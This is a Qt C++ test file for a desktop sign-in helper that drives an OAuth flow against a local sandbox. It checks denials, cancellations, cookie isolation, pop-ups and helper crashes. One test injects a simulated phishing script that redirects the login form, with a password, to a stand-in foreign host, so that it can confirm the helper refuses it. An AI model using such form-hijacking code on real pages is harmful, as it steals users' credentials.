#include "ApiClient.h"
#include "SandboxDemo.h"
#include "SandboxServer.h"
#include "SignInBrowser.h"
#include "SignInController.h"
#include "SignInFlow.h"
#include "SignInTestSupport.h"

#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QtTest>

#include <cerrno>
#include <csignal>

using namespace activity;
namespace demo = activity::sandbox::demo;

// The sign-in through the real activity-signin process under Xvfb, against the sandbox: what the
// console does (SignInController -> SignInBrowser -> helper), and the helper's browser policy seen
// from outside (its answer line and its diagnostics on stderr). This test links no Qt WebEngine.
class TestSignInHelper : public QObject
{
    Q_OBJECT
private:
    sandbox::SandboxServer *m_sandbox = nullptr;
    QNetworkAccessManager *m_network = nullptr;
    ApiClient *m_client = nullptr;

    struct Outcome
    {
        std::optional<Account> account;
        std::optional<ApiError> error;
    };

    // Runs the console's controller to its one outcome (without a ProfileStore: the built-in sandbox).
    Outcome signIn(const QString &callbackUrl)
    {
        SignInController controller(m_client, nullptr, QStringLiteral("sandbox"), callbackUrl);
        QSignalSpy succeeded(&controller, &SignInController::succeeded);
        QSignalSpy failed(&controller, &SignInController::failed);
        controller.start();
        (void)QTest::qWaitFor([&] { return !succeeded.isEmpty() || !failed.isEmpty(); }, 60000);
        Outcome outcome;
        if (!succeeded.isEmpty())
            outcome.account = succeeded.first().first().value<Account>();
        if (!failed.isEmpty())
            outcome.error = failed.first().first().value<ApiError>();
        return outcome;
    }

    static QString describe(const Outcome &outcome)
    {
        if (outcome.error)
            return outcome.error->text();
        return outcome.account ? QStringLiteral("signed in as ") + outcome.account->username
                               : QStringLiteral("no outcome");
    }

    // The helper run directly, as SignInBrowser runs it, with its stderr kept for the test.
    struct HelperRun
    {
        QProcess process;
        QByteArray diagnostics;

        ~HelperRun()
        {
            if (process.state() == QProcess::NotRunning)
                return;
            QSignalSpy finished(&process, &QProcess::finished);
            process.kill();
            finished.wait(10000);
        }

        void start(const QUrl &authorizeUrl, const QString &callback)
        {
            process.setProcessChannelMode(QProcess::SeparateChannels);
            QObject::connect(&process, &QProcess::readyReadStandardError,
                             [this] { diagnostics += process.readAllStandardError(); });
            process.start(SignInBrowser::helperPath(),
                          {QStringLiteral("--authorize-url"), authorizeUrl.toString(QUrl::FullyEncoded),
                           QStringLiteral("--callback"), callback, QStringLiteral("--allow-host"),
                           QStringLiteral("x.com"), QStringLiteral("--allow-host"),
                           QStringLiteral("twitter.com")});
        }
        bool waitForDiagnostic(const QByteArray &text)
        {
            return QTest::qWaitFor([&] { return diagnostics.contains(text); }, 30000);
        }
        // Closes stdin (the console going away) and returns the one answer line.
        QJsonObject finish()
        {
            process.closeWriteChannel();
            if (process.state() != QProcess::NotRunning)
                (void)QSignalSpy(&process, &QProcess::finished).wait(20000);
            const QList<QByteArray> lines = process.readAllStandardOutput().split('\n');
            return QJsonDocument::fromJson(lines.value(0)).object();
        }
    };

    QUrl newAuthorizeUrl(bool pin)
    {
        SignInFlow *flow = new SignInFlow(m_client, pin ? QString() : demo::callbackUrl, this);
        QSignalSpy ready(flow, &SignInFlow::authorizeUrlReady);
        flow->start();
        if (!ready.wait(10000))
            return {};
        return flow->authorizeUrl();
    }

    bool sandboxServedTheAuthorizePage() const
    {
        for (const auto &entry : m_sandbox->journal().entries()) {
            if (entry.path.startsWith(QStringLiteral("/oauth/authorize")))
                return true;
        }
        return false;
    }

private Q_SLOTS:
    void initTestCase()
    {
        qRegisterMetaType<Account>();
        qRegisterMetaType<ApiError>();
        QVERIFY2(!SignInBrowser::helperPath().isEmpty(), "ACTIVITY_SIGNIN_HELPER is set by ctest");
    }

    void init()
    {
        m_sandbox = new sandbox::SandboxServer(this);
        QVERIFY(m_sandbox->listen());
        m_sandbox->seedDemo();
        m_network = new QNetworkAccessManager(this);
        m_client = signintest::demoAppClient(m_network, m_sandbox->baseUrl(), this);
    }
    void cleanup()
    {
        delete m_client;
        delete m_network;
        delete m_sandbox;
    }

    void shouldSignInByApprovingInTheHelpersWindow()
    {
        signintest::HelperTestHooks hooks;
        hooks.setScript(
            signintest::personScript(demo::alice.username, demo::alice.password, QStringLiteral("allow")));
        const Outcome outcome = signIn(demo::callbackUrl);
        QVERIFY2(outcome.account, qPrintable(describe(outcome)));
        QCOMPARE(outcome.account->userId, demo::alice.id);
        // The callback was caught in the helper before any request left.
        QVERIFY(sandboxServedTheAuthorizePage());
        for (const auto &entry : m_sandbox->journal().entries())
            QVERIFY(!entry.path.contains(QStringLiteral("activity-console/callback")));
    }

    void shouldReportADenial()
    {
        signintest::HelperTestHooks hooks;
        hooks.setScript(
            signintest::personScript(demo::alice.username, demo::alice.password, QStringLiteral("deny")));
        const Outcome outcome = signIn(demo::callbackUrl);
        QVERIFY2(outcome.error, qPrintable(describe(outcome)));
        QCOMPARE(outcome.error->kind, ApiError::Kind::Permission);
    }

    void shouldCancelWhenTheWindowIsClosed()
    {
        signintest::HelperTestHooks hooks;
        hooks.setScript(signintest::closeWindowScript());
        const Outcome outcome = signIn(demo::callbackUrl);
        QVERIFY2(outcome.error, qPrintable(describe(outcome)));
        QCOMPARE(outcome.error->kind, ApiError::Kind::Cancelled);
        QVERIFY(outcome.error->cause.contains(QStringLiteral("closed")));
    }

    void shouldSignInWithThePinTypedIntoTheWindow()
    {
        signintest::HelperTestHooks hooks;
        hooks.setScript(
            signintest::personScript(demo::bob.username, demo::bob.password, QStringLiteral("allow")));
        const Outcome outcome = signIn(QString()); // oob
        QVERIFY2(outcome.account, qPrintable(describe(outcome)));
        QCOMPARE(outcome.account->userId, demo::bob.id);
    }

    void shouldShareNoCookiesOrStorageBetweenTwoSignIns()
    {
        signintest::HelperTestHooks hooks;
        // The first person leaves a cookie and local storage behind...
        hooks.setScript(signintest::personScript(
            demo::alice.username, demo::alice.password, QStringLiteral("allow"),
            QStringLiteral("document.cookie = 'who=alice; path=/'; localStorage.setItem('who', 'alice')")));
        const Outcome first = signIn(demo::callbackUrl);
        QVERIFY2(first.account, qPrintable(describe(first)));
        QCOMPARE(first.account->userId, demo::alice.id);

        // ...and the second window approves only if it sees none of it (it declines otherwise).
        hooks.setScript(
            QStringLiteral("(function () {"
                           "  if (!document.getElementById('username')) return {page: document.title};"
                           "  var clean = document.cookie === '' && localStorage.getItem('who') === null"
                           "              && document.getElementById('username').value === '';"
                           "  document.getElementById('username').value = '%1';"
                           "  document.getElementById('password').value = '%2';"
                           "  document.getElementById(clean ? 'allow' : 'deny').click();"
                           "  return {clean: clean};"
                           "})()")
                .arg(demo::bob.username, demo::bob.password));
        const Outcome second = signIn(demo::callbackUrl);
        QVERIFY2(second.account, qPrintable(describe(second)));
        QCOMPARE(second.account->userId, demo::bob.id);
    }

    void shouldHandOffSiteLinksToTheDesktop()
    {
        signintest::HelperTestHooks hooks;
        hooks.setScript(QStringLiteral("var a = document.createElement('a'); a.id = 'offsite';"
                                       "a.href = 'https://help.example.com/privacy'; a.textContent = 'x';"
                                       "document.body.appendChild(a); a.click(); ({clicked: true})"));
        HelperRun helper;
        helper.start(newAuthorizeUrl(false), demo::callbackUrl);
        QVERIFY2(helper.waitForDiagnostic("handed to the desktop: https://help.example.com/privacy"),
                 helper.diagnostics.constData());
        QCOMPARE(hooks.externalLinks(), QStringList {QStringLiteral("https://help.example.com/privacy")});
        QVERIFY(!helper.diagnostics.contains("refused"));
        QCOMPARE(helper.finish().value(QStringLiteral("result")).toString(), QStringLiteral("cancelled"));
        QCOMPARE(helper.process.exitCode(), 0);
    }

    void shouldRefuseAMainFrameNavigationToAForeignHost()
    {
        signintest::HelperTestHooks hooks;
        // The phisher's move: the form posts the password elsewhere.
        hooks.setScript(QStringLiteral("if (location.host.indexOf('127.0.0.1') === 0) {"
                                       "  var form = document.getElementById('login');"
                                       "  form.action = 'https://foreign.example/phish';"
                                       "  document.getElementById('password').value = 'secret';"
                                       "  form.submit();"
                                       "}"
                                       "({at: location.href})"));
        HelperRun helper;
        helper.start(newAuthorizeUrl(false), demo::callbackUrl);
        QVERIFY2(helper.waitForDiagnostic("refused https://foreign.example/phish"),
                 helper.diagnostics.constData());
        QVERIFY(helper.diagnostics.contains("not part of the sign-in"));
        QVERIFY(hooks.externalLinks().isEmpty()); // not handed on either
        QCOMPARE(helper.finish().value(QStringLiteral("result")).toString(), QStringLiteral("cancelled"));
    }

    void shouldRefuseAScriptOpenedPopUp()
    {
        signintest::HelperTestHooks hooks;
        hooks.setScript(QStringLiteral("var w = window.open('https://help.example.com/popup');"
                                       "({popupOpened: w !== null})"));
        HelperRun helper;
        helper.start(newAuthorizeUrl(false), demo::callbackUrl);
        QVERIFY2(helper.waitForDiagnostic("test script answered: "), helper.diagnostics.constData());
        QVERIFY2(helper.diagnostics.contains("{\"popupOpened\":false}"), helper.diagnostics.constData());
        QVERIFY(hooks.externalLinks().isEmpty());
        QCOMPARE(helper.finish().value(QStringLiteral("result")).toString(), QStringLiteral("cancelled"));
    }

    void shouldReportAHelperKilledMidSignIn()
    {
        signintest::HelperTestHooks hooks; // no script: the window waits for a person
        SignInController controller(m_client, nullptr, QStringLiteral("sandbox"), demo::callbackUrl);
        QSignalSpy opened(&controller, &SignInController::browserOpened);
        QSignalSpy failed(&controller, &SignInController::failed);
        controller.start();
        QVERIFY(opened.wait(10000));
        QTRY_VERIFY_WITH_TIMEOUT(sandboxServedTheAuthorizePage(), 30000);
        const qint64 pid = controller.browser()->processId();
        QVERIFY(pid > 0);
        QCOMPARE(::kill(pid_t(pid), SIGKILL), 0);
        QVERIFY(failed.wait(10000));
        const auto error = failed.first().first().value<ApiError>();
        QCOMPARE(error.kind, ApiError::Kind::LocalProgram);
        QVERIFY2(error.cause.contains(QStringLiteral("stopped unexpectedly")), qPrintable(error.text()));
        QVERIFY(!error.remedy.isEmpty());
    }

    void shouldEndTheHelperWhenTheSignInIsDestroyed()
    {
        signintest::HelperTestHooks hooks;
        qint64 pid = 0;
        {
            SignInController controller(m_client, nullptr, QStringLiteral("sandbox"), demo::callbackUrl);
            QSignalSpy opened(&controller, &SignInController::browserOpened);
            controller.start();
            QVERIFY(opened.wait(10000));
            QTRY_VERIFY_WITH_TIMEOUT(sandboxServedTheAuthorizePage(), 30000);
            pid = controller.browser()->processId();
            QVERIFY(pid > 0);
        }
        // The destructor waited for the helper, so it is gone and reaped.
        QCOMPARE(::kill(pid_t(pid), 0), -1);
        QCOMPARE(errno, ESRCH);
    }

    void shouldFailClearlyWhenTheHelperIsMissingOrMisbehaves_data()
    {
        QTest::addColumn<QString>("program");
        QTest::addColumn<QString>("causePart");
        QTest::newRow("missing") << QStringLiteral("/nonexistent/activity-signin")
                                 << QStringLiteral("not an executable program");
        QTest::newRow("garbage") << QStringLiteral("/bin/echo") << QStringLiteral("does not understand");
        QTest::newRow("no answer") << QStringLiteral("/bin/true") << QStringLiteral("without an answer");
        QTest::newRow("failure") << QStringLiteral("/bin/false") << QStringLiteral("exit code 1");
    }
    void shouldFailClearlyWhenTheHelperIsMissingOrMisbehaves()
    {
        QFETCH(QString, program);
        QFETCH(QString, causePart);
        const QByteArray previous = qgetenv("ACTIVITY_SIGNIN_HELPER");
        qputenv("ACTIVITY_SIGNIN_HELPER", program.toLocal8Bit());
        SignInBrowser browser;
        QSignalSpy failed(&browser, &SignInBrowser::failed);
        QSignalSpy cancelled(&browser, &SignInBrowser::closedByUser);
        browser.start({QUrl(QStringLiteral("https://api.x.com/oauth/authorize?oauth_token=t")), {}, {}, {}});
        const bool reported = failed.wait(10000);
        qputenv("ACTIVITY_SIGNIN_HELPER", previous);
        QVERIFY(reported);
        QCOMPARE(failed.size(), 1);
        QVERIFY(cancelled.isEmpty());
        const auto error = failed.first().first().value<ApiError>();
        QCOMPARE(error.kind, ApiError::Kind::LocalProgram);
        QVERIFY2(error.cause.contains(causePart), qPrintable(error.text()));
        QVERIFY(!error.remedy.isEmpty());
    }
};

QTEST_MAIN(TestSignInHelper)
#include "tst_signin_helper.moc"
